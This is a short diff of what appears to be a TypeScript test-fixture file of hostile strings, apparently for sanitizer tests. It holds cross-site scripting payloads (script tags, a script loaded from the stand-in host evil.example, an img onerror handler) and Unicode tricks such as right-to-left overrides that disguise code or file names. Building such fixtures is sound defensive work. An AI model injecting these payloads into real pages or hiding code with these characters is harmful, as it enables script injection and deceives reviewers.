@@ -7,7 +7,8 @@ export const foreign = "evil.example";
 const run = `window.${flag}=1`;
 const leak = `https://${foreign}/leak`;
 
-const tags = [
+/** Each begins with a tag, which is to be read as text. */
+export const tags: readonly string[] = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=//${foreign}/x.js></SCRIPT>`,
   `<script\n>${run}</script\n>`,
@@ -170,11 +171,11 @@ const unicode = [
   `access\u202E\u2066// Check if admin\u2069\u2066`,
   `\u202Etxt.exe`,
   `a\u200B\u200C\u200D\u2060\uFEFFb`,
-  `${"Z\u0351\u0342\u0346\u0309".repeat(400)}`,
+  "Z\u0351\u0342\u0346\u0309".repeat(400),
   `\uD800 half a character \uDC00`,
   `\u{E0041}\u{E0042} tags`,
   `line\u2028separator\u2029<img src=x onerror=${run}>`,
-  `${"\u0CCE\u{1F9D1}\u200D\u{1F91D}\u200D\u{1F9D1}".repeat(300)}`,
+  "\u0CCE\u{1F9D1}\u200D\u{1F91D}\u200D\u{1F9D1}".repeat(300),
 ];
 
 /** All that fit into a line or a few; each is a text on its own. */
